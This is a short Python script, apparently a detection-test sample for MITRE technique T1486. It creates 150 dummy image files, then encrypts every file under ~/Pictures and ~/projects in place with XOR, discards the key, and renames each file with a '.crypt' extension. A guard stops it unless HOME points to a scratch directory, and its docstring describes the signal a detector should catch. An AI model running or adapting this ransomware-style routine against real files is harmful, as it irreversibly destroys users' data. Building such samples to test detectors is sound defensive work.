# technique: T1486
"""Data Encrypted for Impact (T1486), in place: each file is encrypted by
writing through an os.open(O_RDWR) descriptor with os.pwrite (no new file,
no truncation), then renamed with Path.rename to add an extension.

Different from the write-new-then-delete spelling: the data is
overwritten in the original inode, and the only path-level trace per file
is a rename. Files are found with Path.rglob("*"). A scratch tree of 150
files under ~/Pictures and ~/projects is created first.

A good detector raises a high alert: one process opens many files for
writing in place and renames them all to a new extension.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
from pathlib import Path

home = Path.home()
for top in ("Pictures", "projects"):
    for d in range(5):
        sub = home / top / f"set{d}"
        sub.mkdir(parents=True, exist_ok=True)
        for i in range(15):
            (sub / f"img{i}.jpg").write_bytes(b"\xff\xd8\xff\xe0" + os.urandom(500))

key = os.urandom(32)
victims = [p for top in ("Pictures", "projects") for p in (home / top).rglob("*") if p.is_file()]
for p in victims:
    fd = os.open(p, os.O_RDWR)
    try:
        size = os.fstat(fd).st_size
        data = os.pread(fd, size, 0)
        os.pwrite(fd, bytes(b ^ key[i % 32] for i, b in enumerate(data)), 0)
    finally:
        os.close(fd)
    p.rename(p.with_name(p.name + ".crypt"))
print("encrypted", len(victims))
